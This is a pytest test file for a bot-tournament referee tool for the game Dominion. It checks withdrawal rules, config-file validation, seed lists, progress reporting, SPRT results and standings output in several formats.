    said = commands.refused(*words, "--withdraw", "minimal")
    assert "--withdraw minimal: it has no matches in the store; leave it out" in said
    commands.tournament(*words, "--deals", "1", code=0)
    assert "bots: minimal, big_money, new" in commands.refused(*words, "--withdraw", "nobody")
    commands.tournament(*words, "--deals", "2", "--extend", "--withdraw", "minimal", code=0)
    with Store.for_reading(commands.store) as store:
        assert store.withdrawn == {0: Withdrawal(5, BY_HAND)}
        rows = [*store.matches()]
    assert [match.match for match in rows if match.reason == FORFEIT] == [
        match.match for match in rows if 0 in match.players and match.match > 5
    ]
    assert len(rows) == 12


def test_the_title_is_kept_in_the_store(commands: Commands) -> None:
    words = [*BOTS[:2], "--deals", "1", "--seed", "1"]
    assert commands.tournament(*words, "--title", "Cup <night>").startswith("Cup <night>\n")
    # From now on, no command has to give it again.
    assert commands.tournament(*words).startswith("Cup <night>\n")
    assert commands.run("standings", commands.store).startswith("Cup <night>\n")
    page = commands.run("standings", commands.store, "--format", "html")
    assert "<title>Cup &lt;night&gt;" in page
    assert commands.run("standings", commands.store, "--title", "x").startswith("x\n")


def test_a_store_goes_on_that_is_older_than_an_option_of_the_game(commands: Commands) -> None:
    words = [*BOTS[:2], "--seed", "1", "--extend", "--deals"]
    commands.stored(*words, "1")
    with Store.for_writing(commands.store) as store:
        (stage,) = store.stages
        older = {name: value for name, value in stage.settings.items() if name != "max_turns"}
        store.replace_bots([replace(stage, settings=older)])
    commands.tournament(*words, "2")
    assert commands.played == [2, 3]
    commands.tournament(*words, "2", "--set", "max_turns=400", code=2)
    assert "max_turns: none in the store, 400 now" in commands.err
    with Store.for_reading(commands.store) as store:
        assert [stage.settings for stage in store.stages] == [older, older]


def test_a_match_to_learn_from_is_shown_from_its_record(commands: Commands, tmp_path: Path) -> None:
    commands.result = lambda plan: row(plan, [1 + bot for bot in plan.players])
    words = ["tournament", "minimal", "./bot.py", "--deals", "1", "-q", "--sandbox", "none"]
    (tmp_path / "bot.py").touch()
    shown = commands.run(*words, "--records", "my records", "--bot", "bot.py")
    assert "  referee play " in shown
    commands.result = lambda plan: row(plan, [1 + bot for bot in plan.players], record=b"{}")
    shown = commands.run(*words, "--records", "other records", "--bot", "bot.py")
    assert "  referee replay 'other records/00000" in shown
    assert "  referee play " not in shown


@pytest.mark.parametrize("name", ["minimal", "nobody"])
def test_only_a_bot_that_is_withdrawn_can_be_reinstated(name: str, commands: Commands) -> None:
    words = [*BOTS, "--deals", "2", "--seed", "1", "--withdraw-after", "2"]
    says = f"--reinstate {name}: it is not withdrawn; no bot is"
    assert says in commands.refused(*words, "--reinstate", name)
    commands.result = failing
    commands.tournament(*words, code=1)
    says = f"--reinstate {name}: it is not withdrawn; big_money is"
    assert says in commands.refused(*words, "--reinstate", name)


def test_no_withdrawal_is_taken_back_after_later_rounds(commands: Commands) -> None:
    words = [*BOTS, "--deals", "4", "--seed", "1", "--withdraw-after", "2"]
    words += ["--pairing", "swiss", "--rounds", "2"]
    commands.result = failing
    commands.tournament(*words, code=1)
    said = commands.refused(*words, "--reinstate", "big_money")
    assert "the pairs of later rounds depend on its forfeits" in said


def test_a_bot_that_is_not_named_any_more_is_named(commands: Commands) -> None:
    more = ["--deals", "2", "--seed", "1"]
    commands.tournament(*BOTS, *more)
    said = commands.refused(*BOTS[:1], *BOTS[2:], *more)
    assert f"{commands.store} has the matches of big_money, too: name every bot of the" in said
    assert "--skip-broken" in said


def test_a_list_of_deals(commands: Commands) -> None:
    Path("deals.txt").write_text("# openings\n7\n\n5 # a short game\n9007199254740991\n")
    commands.tournament(*BOTS, "--deal-seeds", "deals.txt")
    seeds = {match["seed"] for match in commands.rows()["matches"]}
    assert seeds == {7, 5, 2**53 - 1}
    Path("deals.txt").write_text("7\n5\n")
    refused = commands.refused(*BOTS, "--deal-seeds", "deals.txt")
    assert "deals: 3 in the store, 2 now; deal_seeds: 3 from 7, 5 on in the store, 2" in refused


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (b"7\nseven\n", "deals.txt, line 2: 'seven' is not an integer from 0 to 2**53 - 1"),
        (b"7\n5\n7\n", "deals.txt, line 3: the seed 7 is in line 1 too"),
        (b"# none\n", "deals.txt has no seeds: write one per line"),
        (b"\xff\xfe7\0", "deals.txt: it is UTF-16; save it as UTF-8"),
        (b"\xff", "deals.txt has no seeds: it is not text"),
    ],
)
def test_what_is_no_list_of_deals(text: bytes, says: str, commands: Commands) -> None:
    Path("deals.txt").write_bytes(text)
    assert says in commands.refused(*BOTS, "--deal-seeds", "deals.txt")


def test_a_bot_that_has_played_is_not_replaced_even_after_it_was_left_out(
    commands: Commands,
) -> None:
    commands.tournament("minimal", "x=big_money", "--deals", "1", "--seed", "5")
    with Store.for_writing(commands.store) as store:
        store.leave_out({"x": "it did not start"})
    refused = commands.refused("minimal", "x=smithy.json", "--deals", "1", "--seed", "5")
    assert "bot 2: 'big_money' in the store, 'smithy.json' now" in refused


def test_a_run_without_matches_keeps_why_a_bot_was_left_out(commands: Commands) -> None:
    words = ("minimal", "x=big_money", "--deals", "1", "--seed", "5")
    commands.tournament(*words)
    with Store.for_writing(commands.store) as store:
        store.leave_out({"x": "it did not start"})
    commands.tournament(*words)
    with Store.for_reading(commands.store) as store:
        assert store.left_out == {1: "it did not start"}


def test_the_folder_of_a_broken_bot_is_not_packed(tmp_path: Path) -> None:
    folder = str(tmp_path)
    now: Any = SimpleNamespace(bots=[SimpleNamespace(directory=folder)])
    for broken, packed in (({0: UsageError("oh")}, []), ({}, [folder])):
        found: Any = SimpleNamespace(broken=broken, directories=[folder])
        assert [[*each] for each in _packed(now, found)] == [[*broken], packed]


def test_the_name_of_an_anchor_may_have_an_equals_sign() -> None:
    bots = [Entrant(name, "minimal") for name in ("a", "a=b")]
    assert chosen_view(bots, "a=b=5", None, ()).anchor == (1, 5.0)


def test_pin_needs_a_core_for_each_job(commands: Commands, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("referee.cli.commands.tournament.shares", lambda jobs: [])
    commands.tournament(*BOTS, "--deals", "1", "--pin")
    assert "--pin does nothing: there are fewer cores than jobs" in commands.err
    assert "--pin is not for --cluster" in commands.refused(*BOTS, "--pin", "--cluster", "tcp://x")


OWN_LIMITS = """
deals = 2
[[bot]]
command = "minimal"
[[bot]]
name = "new"
command = "big_money"
memory-limit = "64M"
time_limit = 2
cpu-limit = "none"
"""


@pytest.mark.slow
def test_a_configuration_gives_one_bot_limits_of_its_own(commands: Commands) -> None:
    Path("cup.toml").write_text(OWN_LIMITS)
    commands.tournament("--config", "cup.toml")
    said = "new has limits of its own: --time-limit 2, --cpu-limit none, --memory-limit 64M."
    assert said in " ".join(commands.out.split())
    page = commands.run("standings", commands.store, "--format", "html")
    assert said in html.unescape(page)
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    own = {"time_limit": 2.0, "cpu_limit": None, "memory_limit": 64 * 2**20}
    assert found["limits_of_bots"] == {"new": own}
    commands.tournament("--config", "cup.toml")
    assert commands.played == []  # all matches are in the store
    Path("cup.toml").write_text(OWN_LIMITS.replace("= 2\ncpu", "= 3\ncpu"))
    refused = commands.refused("--config", "cup.toml")
    assert "limits of bot 2: --time-limit 2, --cpu-limit none, --memory-limit 64M in the" in refused


@pytest.mark.parametrize(
    ("key", "says"),
    [
        ("time-limit = 0", "bot 1: time-limit: '0' is not a number of seconds above 0"),
        ("time-limit = [2]", "bot 1: time-limit must be one value, not [2]"),
        ("time-limit = true", "bot 1: time-limit must be one value, not True"),
        ("memory-limit = '5 MB'", "bot 1: memory-limit: '5 MB' is not a number of bytes"),
        ("memroy-limit = 5", "bot 1: unknown key 'memroy-limit'; did you mean memory-limit?"),
    ],
)
def test_a_wrong_limit_of_one_bot(key: str, says: str, commands: Commands) -> None:
    Path("cup.toml").write_text(f"[[bot]]\ncommand = 'minimal'\n{key}\n")
    assert commands.refused("--config", "cup.toml").startswith(f"referee: cup.toml: {says}")


def test_nothing_is_added_to_a_knockout(commands: Commands) -> None:
    words = [*BOTS, "--pairing", "knockout", "--deals"]
    commands.tournament(*words, "1")
    refused = commands.refused(*words, "2", "--store", commands.store, "--extend")
    assert "--extend cannot add anything to a knockout" in refused


def test_names_of_bots(commands: Commands) -> None:
    commands.tournament(
        "a=minimal", "minimal", "big_money", "minimal", "a=big_money", "--format", "json"
    )
    found = json.loads(commands.out)
    assert {bot["name"] for bot in found["bots"]} == {
        *("a", "minimal", "big_money", "minimal #2", "a #2"),
    }
    assert {bot["reported_name"] for bot in found["bots"]} == {f"Bot {n}" for n in range(5)}


CONFIG = """
deals = 2
seed = 5
time-limit = 3
quiet = true
set = { max_turns = 30 }

[[bot]]
command = "minimal"

[[bot]]
name = "new"
command = "big_money"
env = { LEVEL = "2" }
"""


def test_a_config_file_is_the_command_line(commands: Commands, tmp_path: Path) -> None:
    Path("night.toml").write_text(CONFIG)
    env = ["--env", "LEVEL=1", "--env", "MORE=3"]
    commands.run("tournament", "--config", "night.toml", "--store", "one.sqlite", *env)
    words = ["minimal", "new=big_money", "--deals", "2", "--seed", "5", "--time-limit", "3"]
    commands.run("tournament", *words, "--set", "max_turns=30", "-q", "--store", "two.sqlite")
    one, two = (Store.for_reading(name) for name in ("one.sqlite", "two.sqlite"))
    with one, two:
        first, second = one.stages[0], two.stages[0]
        assert contents(one)["matches"] == contents(two)["matches"]
        for name in first.__struct_fields__:
            if name != "bots":
                assert getattr(first, name) == getattr(second, name)
        assert [bot.name for bot in first.bots] == [bot.name for bot in second.bots]
        assert first.bots[0].env == (("LEVEL", "1"), ("MORE", "3"))
        assert first.bots[1].env == (("LEVEL", "2"), ("MORE", "3"))
        assert first.bots[1].directory == str(tmp_path)


def test_the_pages_name_the_options_that_a_config_may_not_set() -> None:
    page = (ROOT / "spec" / "tournaments.md").read_text()
    example = (ROOT / "spec" / "examples" / "tournament.toml").read_text()
    fields = TournamentOptions.fields.values()
    options = [each for field in fields for each in field.options if not each.in_file]
    *first, last = (each.flags[-1] for each in options)
    in_code = ", ".join(f"`{name}`" for name in first)
    assert f"except {in_code} and `{last}`" in " ".join(page.split())
    assert f"except {', '.join(first)} and {last}." in example.replace("\n# ", " ")


@pytest.mark.parametrize(
    ("key", "says"),
    [
        ("bots", "'bots'; did you mean [[bot]]?"),
        ("threads", "'threads'; there are: [[bot]], alpha, "),
        ("browser", "'browser'; give --browser on the command line"),
        ("same_bot", "'same_bot'; give --same-bot on the command line"),
        ("deal", "'deal'; did you mean deals?"),
    ],
)
def test_an_unknown_key_of_a_config_has_a_hint(key: str, says: str, commands: Commands) -> None:
    """Hints have the spelling that the file uses."""
    Path("cup.toml").write_text(f"{key} = 4\n")
    refused = commands.refused("--config", "cup.toml")
    assert refused.startswith(f"referee: cup.toml: unknown option {says}")


def test_the_command_line_wins_over_the_config(commands: Commands) -> None:
    Path("night.toml").write_text(CONFIG)

    def setup(*words: str) -> Any:
        name = f"{len(os.listdir())}.sqlite"
        words = ("--config", "night.toml", *words, "--store", name, "--format", "json")
        commands.run("tournament", *words)
        with Store.for_reading(name) as store:
            return store.stages[0]

    chosen = setup("--deals", "1", "--seed", "6", "--set", "max_turns=7", "big_money", "x=minimal")
    assert (chosen.deals, chosen.seed, chosen.settings["max_turns"]) == (1, 6, 7)
    assert [bot.name for bot in chosen.bots] == ["big_money", "x"]
    said = "night.toml: its bots do not play, because the command names others"
    assert said in commands.err
    by_matches = setup("--matches", "7")
    assert said not in commands.err
    assert (by_matches.deals, by_matches.matches) == (None, 7)
    Path("night.toml").write_text("matches = 8\n" + CONFIG.replace("deals = 2", ""))
    assert setup("--deals", "1").matches is None


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("deals = 0", "--deals: '0' is not an integer of 1 or more"),
        ("seed = -1", "--seed: '-1' is not an integer"),
        ("seed = 1.5", "--seed: '1.5' is not an integer"),
        ("format = 'knockout'", "--format: 'knockout' is not one of text, json"),
        ("time-limit = 'long'", "--time-limit: 'long' is not a number of seconds"),
        ("deals = true", "--deals: 'true' is not an integer"),
        ("colour = 'red'", "unknown option 'colour'"),
        ("config = 'other.toml'", "unknown option 'config'"),
        ("quiet = 3", "quiet must be true or false"),
        ("set = 'x'", "set must be a table"),
        ("[[bot]]\nname = 'x'", "bot 1: command is missing"),
        ("x = = 3", "is not valid TOML"),
        (f"deals = {'9' * 5_000}", "is not valid TOML"),
        (f"a{'.a' * 5_000} = 1", "line 1 has more than 100 dots: use shorter keys"),
        (f"\n[a{'.a' * 5_000}]", "line 2 has more than 100 dots"),
        (f"a{'.a' * 50} = 1", "nested too deeply"),
        (f"x = {'[' * 5_000}", "nested too deeply"),
        ("store = 'x'\nrecords = \"a\\u0000b\"", "records has the character U+0000"),
        ("[[bot]]\ncommand = 'x'\ndirectory = \"\\u0000\"", "bot has the character U+0000"),
        ("[[bot]]\ncommand = 'x'\nenv = {A = \"\\u0000\"}", "bot has the character U+0000"),
        (
            "[[bot]]\ncommand = 'x'\nenv = {\"A=B\" = 'c'}",
            "bot 1: env: 'A=B' cannot name a variable",
        ),
        ("[[bot]]\ncommand = 'x'\nenv = {\"\" = 'c'}", "bot 1: env: '' cannot name a variable"),
    ],
)
def test_a_mistake_in_a_config_is_one_line_with_its_name(
    commands: Commands, text: str, says: str
) -> None:
    Path("night.toml").write_text(text)
    line = commands.refused("--config", "night.toml", *BOTS)
    assert "night.toml" in line
    assert says in line


@pytest.mark.slow
@pytest.mark.parametrize("limit", [200_000, 140_000])
def test_too_little_memory_is_one_line(limit: int) -> None:
    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit * 1024, limit * 1024))

    refused = referee_process("tournament", *BOTS, preexec_fn=limited)
    assert (refused.returncode, refused.stdout) == (71, "")
    assert f"262144 kB of memory, and may have {limit} (ulimit -v)" in one_line(refused.stderr)


def test_a_folder_that_is_gone_is_one_line(tmp_path: Path) -> None:
    folder = tmp_path / "gone"
    folder.mkdir()
    refused = forked_referee("tournament", *BOTS, "-q", cwd=folder, preexec_fn=folder.rmdir)
    assert (refused.returncode, refused.stdout) == (2, "")
    assert "the folder in which this was started is gone" in one_line(refused.stderr)


def test_there_is_no_estimate_while_bots_start(
    commands: Commands, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("referee.cli.commands.tournament_progress.ESTIMATE_AFTER", math.inf)
    monkeypatch.setattr("referee.cli.commands.tournament_progress.LINE_SECONDS", 0.0)
    commands.run("tournament", *BOTS, "--deals", "9")
    assert ("matches/s" in commands.err, " left" in commands.err) == (True, False)


@pytest.mark.slow
def test_estimates_need_ten_matches(commands: Commands, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("referee.cli.commands.tournament_progress.ESTIMATE_AFTER", 0.0)
    monkeypatch.setattr("referee.cli.commands.tournament_progress.LINE_SECONDS", 0.0)
    commands.most = 1
    commands.run("tournament", *BOTS, "--deals", "2", "--jobs", "1")
    lines = [line for line in commands.err.splitlines() if "matches/s" in line]
    with_estimate = [line.startswith("referee: 1") for line in lines if " left" in line]
    assert with_estimate
    for line in lines:
        assert (" left" in line) == (re.match(r"referee: 1[0-2] of 12 ", line) is not None)
    # An SPRT can stop at any time, so the progress line has no estimate of the time left.
    words = ["minimal", "big_money", "--pairing", "sprt", "--deals", "6", "--jobs", "1"]
    commands.run("tournament", *words)
    assert "LLR" in commands.err
    assert " left" not in commands.err


def test_progress_can_be_a_line_per_match_and_a_table_now_and_then(commands: Commands) -> None:
    def result(plan: Plan) -> MatchRow:
        if plan.match == 3:
            return void(plan)
        return new_fails(plan) if plan.match == 4 else row(plan, scores=[12, 3.5], turns=1)

    commands.result = result
    commands.most = 1
    words = ["tournament", *BOTS, "--deals", "2", "--seed", "3", "--jobs", "1"]
    usual = commands.run(*words)
    assert commands.run(*words, "--progress", "lines") == usual
    lines = commands.err.splitlines()
    matches = [line for line in lines if ": match " in line]
    assert len(matches) == 12
    assert sorted(int(re.findall(r"match (\d+)", line)[0]) for line in matches) == [*range(12)]
    assert matches[0].startswith("referee: 1 of 12: match ")
    assert sum(line.endswith(" is void (provinces-empty)") for line in matches) == 1
    assert sum("new 34 (disqualified: exited)" in line for line in matches) <= 1
    assert all("; 1 turn, provinces-empty" in line for line in matches if "12, " in line)
    tables = [number for number, line in enumerate(lines) if line.startswith("# bot ")]
    for number, done in zip(tables, (2, 4, 6, 8, 10, 12), strict=True):
        assert lines[number - 1].startswith(f"referee: {done} of 12 matches")
        assert [line.split()[0] for line in lines[number + 1 : number + 4]] == ["1", "2", "3"]


@pytest.mark.parametrize(("matches", "every"), [(1, 1), (10, 1), (11, 2), (20, 2), (21, 3)])
def test_how_often_a_table_comes_by_default(matches: int, every: int) -> None:
    assert table_every(matches) == every


def test_a_continued_run_has_its_next_table_in_time(commands: Commands) -> None:
    commands.most = 1
    commands.tournament(*BOTS, "--deals", "1", "--jobs", "1")
    words = [*BOTS, "--deals", "3", "--extend", "--jobs", "1", "--store", commands.store]
    commands.run("tournament", *words, "--progress", "lines")
    assert commands.err.startswith("referee: 7 of 18: match 6: ")
    tables = re.findall(r"referee: (\d+) of 18 matches", commands.err)
    assert [*map(int, tables)] == [7, *range(8, 19, 2)]


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["--progress", "lines", "-q"], "not allowed with argument"),
        (["--progress", "loud"], "invalid choice: 'loud'"),
    ],
)
def test_progress_that_cannot_be(words: list[str], says: str, commands: Commands) -> None:
    commands.run("tournament", *BOTS, *words, code=2)
    assert says in commands.err


def test_progress_is_a_line_on_stderr_and_quiet_is_quiet(commands: Commands) -> None:
    commands.run("tournament", *BOTS, "--deals", "2")
    assert re.search(r"referee: 1?\d of 12 matches, .* matches/s", commands.err)
    commands.run("tournament", *BOTS, "--deals", "2", "-q")
    assert commands.err == ""
    commands.run("tournament", "minimal", "big_money", "--pairing", "sprt", "--deals", "4")
    assert re.search(r"LLR -?\d\.\d\d \(-2\.94 to 2\.94\)", commands.err)


@pytest.mark.slow
def test_sprt_stops_and_says_what_it_knows(commands: Commands) -> None:
    words = ["minimal", "big_money", "--pairing", "sprt", "--elo1", "300", "--seed", "3"]
    commands.result = lambda plan: row(plan, [1, 2] if plan.players[0] == 0 else [2, 1])
    rows = []
    for jobs in ("1", "2"):
        found = json.loads(
            commands.run("tournament", *words, "-q", "--format", "json", "--jobs", jobs)
        )
        assert found["sprt"]["verdict"] == "H1"
        assert found["sprt"]["llr"] >= found["sprt"]["upper"]
        assert found["matches"] == found["planned"] < 100
        rows.append(found)
    assert rows[0] == rows[1]
    text = commands.run("tournament", *words, "-q")
    assert "H1 is accepted: minimal is better than big_money by more than 0 Elo." in text
    assert "The interval is a quarter wider" in text


def test_sprt_at_its_limit_says_how_to_go_on(commands: Commands) -> None:
    words = ["minimal", "big_money", "--pairing", "sprt", "--seed", "3"]
    commands.result = lambda plan: row(plan, [1, 2])
    text = commands.tournament(*words, "--deals", "4")
    assert "Not decided at the limit of deals." in text
    assert "minimal against big_money: +0 Elo" in text
    assert "Deals in which it took 0, 0.5, 1, 1.5 and 2 points: 0, 0, 4, 0, 0." in text
    text = commands.tournament(*words, "--deals", "5", "--extend")
    assert "10 of 10 matches" in text


def test_a_bot_is_left_out_of_the_ratings(commands: Commands) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "1")
    text = commands.run("standings", commands.store, "--exclude", "new", "--format", "json")
    found = json.loads(text)
    assert (found["matches"], found["deals"]) == (4, 2)
    assert [bot["name"] for bot in found["bots"]] == ["minimal", "big_money"]
    commands.run("standings", commands.store, "--exclude", "new", "--bot", "minimal")
    commands.run("standings", commands.store, "--exclude", "x", code=2)
    assert "--exclude x: there are: minimal, big_money, new" in commands.err


# --- standings ------------------------------------------------------------------------------------


def test_json_is_alone_on_stdout_and_has_these_keys(commands: Commands) -> None:
    commands.result = lambda plan: void(plan) if plan.match == 3 else row(plan)
    out = commands.tournament(*BOTS, "--deals", "2", "--format", "json")
    assert out.count("\n") == 1
    found = json.loads(out)
    assert found["matches"] == 11
    assert found["void"] == 1
    names = {"minimal", "big_money", "new"}
    for bot in found["bots"]:
        assert bot.keys() >= {
            *("name", "rank", "rating", "rating_low", "rating_high", "matches", "wins", "draws"),
            *("losses", "points"),
        }
    assert {bot["name"] for bot in found["bots"]} == names
    assert [bot["rank"] for bot in found["bots"]] == [1, 2, 3]
    for table, keys in (
        ("head_to_head", {"matches", "wins", "draws", "losses", "points"}),
        ("differences", {"elo", "low", "high", "los"}),
    ):
        assert found[table].keys() == names
        for name, others in found[table].items():
            assert others.keys() == names - {name}
            assert all(cell.keys() == keys for cell in others.values())
    assert commands.run("standings", commands.store, "--format", "json") == out
    # The two bots of a match share one point, and 11 of the 12 matches count.
    assert sum(bot["points"] for bot in found["bots"]) == 11


@pytest.mark.slow
def test_standings_in_every_format(commands: Commands) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "1")
    text = commands.run("standings", commands.store)
    assert text == commands.tournament(*BOTS, "--deals", "2", "--seed", "1")
    assert "12 of 12 matches in 6 deals" in text
    assert "\x1b" not in text
    assert max(map(len, text.splitlines())) <= 80
    rows = list(
        csv.DictReader(commands.run("standings", commands.store, "--format", "csv").splitlines())
    )
    assert {row["name"] for row in rows} == {"minimal", "big_money", "new"}
    assert [row["rank"] for row in rows] == ["1", "2", "3"]
    page = commands.run("standings", commands.store, "--format", "html")
    assert page.startswith("<!DOCTYPE html>")
    assert not re.search(r"(?:src|href)\s*=\s*[\"']?(?:https?:)?//|@import|url\(", page)
    one = commands.run("standings", commands.store, "--bot", "new")
    assert "new: rank" in one
    assert "It calls itself Bot 2." in one


def test_a_bot_without_matches_has_all_cells_of_a_csv(commands: Commands) -> None:
    with Store.for_writing(commands.store) as store:
        store.add_stage(made_setup(3))
        play(store, until=1, most=1)
    head, *rows = csv.reader(
        commands.run("standings", commands.store, "--format", "csv").splitlines()
    )
    assert (head[-6], head[-1]) == ("win_rate", "mean_points_high")
    assert rows[-1][-6:] == [""] * 6
    assert {len(row) for row in rows} == {len(head)}


def test_a_page_of_a_tournament_is_of_the_store_that_is_named(commands: Commands) -> None:
    with Store.for_writing(commands.store) as store:
        store.add_stage(made_setup(2))
        play(store, until=1, most=1)
    assert "bots: bot0, bot1" in commands.refused(*BOTS, "--browser", "--withdraw", "x")


@pytest.mark.parametrize("columns", [40, 49, 59])
def test_standings_in_a_narrow_terminal(
    columns: int, commands: Commands, monkeypatch: pytest.MonkeyPatch
) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "1")
    monkeypatch.setattr("referee.cli.console.width", lambda _: columns)
    lines = commands.run("standings", commands.store).splitlines()
    assert not [line for line in lines if line.endswith(" ")]
    (head,) = [number for number, line in enumerate(lines) if "95% interval" in line]
    ranked = {line.split()[1] for line in lines[head + 1 : head + 4]}
    assert ranked == {"minimal", "big_money", "new"}


@pytest.mark.parametrize(
    ("form", "says"), [("text", "99% within"), ("json", "reply_99"), ("html", "99% within")]
)
def test_reply_times_are_shown_if_asked_for(form: str, says: str, commands: Commands) -> None:
    commands.stored(*BOTS, "--deals", "1", "--seed", "1")
    words = ("standings", commands.store, "--format", form)
    assert says not in commands.run(*words)
    assert says in commands.run(*words, "--statistics")


def test_only_so_many_bots_are_compared_as_are_asked_for(commands: Commands) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "1")
    words = ("standings", commands.store, "--head-to-head", "2")
    found = json.loads(commands.run(*words, "--format", "json"))
    first = [bot["name"] for bot in found["bots"][:2]]
    for table in ("head_to_head", "differences"):
        pairs = [(one, two) for one, row in found[table].items() for two in row]
        assert sorted(pairs) == sorted([(first[0], first[1]), (first[1], first[0])])
    lines = commands.run(*words).splitlines()
    (head,) = [number for number, line in enumerate(lines) if line.startswith("Points of the row")]
    assert len(lines[head + 1 :]) == 1 + 2
    last = found["bots"][2]["name"]
    # `--bot` doesn't limit the opponents
    details = commands.run(*words, "--bot", last).split("against ")[-1]
    assert details == commands.run(*words[:2], "--bot", last).split("against ")[-1]


def test_a_bot_that_is_out_is_named_once_and_marked_in_every_format(commands: Commands) -> None:
    def result(plan: Plan) -> MatchRow:
        return unplayed_row(plan, {2}, WORKER_KILLED, "") if plan.players == (2, 0) else row(plan)

    commands.result = result
    out = commands.tournament(*BOTS, "--deals", "1", code=1)
    assert one_line(commands.err).startswith("referee: new is out: it kills the process that plays")
    assert "new (out)" in out
    assert "new is out: it kills" in out
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    assert found["removed"] == ["new"]
    assert "new is out: it kills" in commands.run("standings", commands.store, "--format", "html")


# --- bots that fail again and again ---------------------------------------------------------------


def new_fails(plan: Plan) -> MatchRow:
    """Disqualify the third bot in each of its matches."""
    return row(plan, left=[left("exited") if bot == 2 else None for bot in plan.players])


@pytest.mark.slow
def test_a_bot_that_fails_again_and_again_is_withdrawn(commands: Commands) -> None:
    commands.result = new_fails
    out = commands.tournament(*BOTS, "--deals", "6", "--seed", "3", code=1)
    says = "new is withdrawn: it was disqualified in 5 consecutive matches (exited), the last is"
    assert one_line(commands.err).startswith(f"referee: {says} match ")
    assert "new (withdrawn)" in out
    assert says in " ".join(out.split())
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    assert found["withdrawn"].keys() == {"new"}
    assert found["withdraw_after"] == 5
    assert (found["matches"], found["forfeits"]) == (17, 19)
    assert says in commands.run("standings", commands.store, "--format", "html")
    assert f"It {says[4:]}" in " ".join(
        commands.run("standings", commands.store, "--bot", "new").split()
    )
    assert commands.tournament(*BOTS, "--deals", "6", code=1) == out
    assert commands.err == ""  # the first run printed the message
    assert commands.played == []


@pytest.mark.parametrize(("words", "played"), [(["never"], 24), (["1"], 9), (["100"], 24)])
def test_after_how_many_matches_can_be_chosen(
    words: list[str], played: int, commands: Commands
) -> None:
    commands.result = new_fails
    code = 1 if played < 24 else 0
    json_only = ("--format", "json")
    commands.tournament(*BOTS, "--deals", "4", *json_only, "--withdraw-after", *words, code=code)
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    assert found["matches"] == played
    # An extended store keeps its --withdraw-after.
    commands.tournament(*BOTS, "--deals", "5", "--extend", *json_only, code=code)
    again = json.loads(commands.run("standings", commands.store, "--format", "json"))
    assert again["withdraw_after"] == found["withdraw_after"]


def test_a_store_of_an_older_referee_continues_without_the_rule(commands: Commands) -> None:
    commands.result = new_fails
    commands.tournament(*BOTS, "--deals", "2", "--withdraw-after", "never")
    with sqlite3.connect(commands.store) as store:
        old = "replace(value, '\"withdraw_after\":null,', '')"
        store.execute(f"UPDATE about SET value = {old} WHERE key = 'stages'")
    store.close()
    commands.tournament(*BOTS, "--deals", "5", "--extend")
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    assert (found["matches"], found["withdrawn"]) == (30, {})
    said = commands.refused(*BOTS, "--deals", "5", "--withdraw-after", "5")
    assert "withdraw-after: never in the store, 5 now" in said


def test_a_configuration_may_say_when_bots_are_withdrawn(
    commands: Commands, tmp_path: Path
) -> None:
    commands.result = new_fails
    for value, code in (("3", 1), ('"never"', 0)):
        file = tmp_path / f"{value.strip(chr(34))}.toml"
        file.write_text(f"deals = 9\nwithdraw-after = {value}\n")
        commands.run("tournament", *BOTS, "-q", "--config", str(file), code=code)
    file.write_text('withdraw-after = "sometimes"\n')
    commands.run("tournament", *BOTS, "-q", "--config", str(file), code=2)
    assert "'sometimes' is not an integer of 1 or more" in one_line(commands.err)
    assert "or 'never'" in commands.err


def test_with_strict_any_disqualification_counts(commands: Commands) -> None:
    words = [*BOTS, "--deals", "2", "--seed", "1"]
    commands.run("tournament", *words, "-q", "--strict")
    commands.result = lambda plan: new_fails(plan) if plan.match < 6 else row(plan)
    text = commands.run("tournament", *words, "-q")
    assert commands.run("tournament", *words, "-q", "--strict", code=1) == text
    assert "withdrawn" not in text


def test_with_strict_a_bot_that_is_left_out_counts(commands: Commands) -> None:
    words = ["minimal", "big_money", "./none.py", "--deals", "2", "--skip-broken"]
    commands.tournament(*words)
    commands.tournament(*words, "--strict", code=1)


def test_a_command_to_be_copied_is_not_wrapped(commands: Commands) -> None:
    long = "smithy_big_money --smithies 1 --duchies 0 --estates 0 --noise 0.125"
    commands.tournament("minimal", f"long={long}", "--deals", "9")
    shown = commands.run("standings", commands.store, "--bot", "long")
    again = [line for line in shown.splitlines() if "referee play" in line]
    assert again
    assert all(f"'{long}'" in line and "--seed" in line for line in again)


def two_weeks(commands: Commands) -> list[str]:
    """Play two tournaments with different seeds and return the files of their stores."""
    files = []
    for seed in ("1", "2"):
        commands.stored(*BOTS, "--deals", "1", "--seed", seed)
        files.append(commands.store.replace("night", f"week{seed}"))
        os.rename(commands.store, files[-1])
    return files


@pytest.mark.slow
def test_a_season_in_every_format(commands: Commands) -> None:
    files = two_weeks(commands)
    text = commands.run("standings", *files)
    assert text.startswith("dominion, 2 tournaments of 3 bots; 12 matches in 6 deals\n")
    assert max(map(len, text.splitlines())) <= 80
    (head,) = [line for line in text.splitlines() if line.startswith("#")]
    assert head.split()[2:5] == ["week1", "week2", "change"]
    found = json.loads(commands.run("standings", *files, "--format", "json"))
    rows = list(csv.DictReader(commands.run("standings", *files, "--format", "csv").splitlines()))
    assert [row["name"] for row in rows] == [bot["name"] for bot in found["bots"]]
    one = commands.run("standings", files[0], "--format", "csv").splitlines()[0].split(",")
    assert list(rows[0])[: len(one)] == one
    assert list(rows[0])[len(one)] == "week1 rating"
    for row_of_bot, bot in zip(rows, found["bots"], strict=True):
        assert float(row_of_bot["rating"]) == bot["rating"]
        assert float(row_of_bot["week2 change"]) == bot["tournaments"][1]["change"]
        assert row_of_bot["week1 change"] == ""
    page = commands.run("standings", *files, "--format", "html")
    assert "<h1>dominion: a season of 2 tournaments</h1>" in page
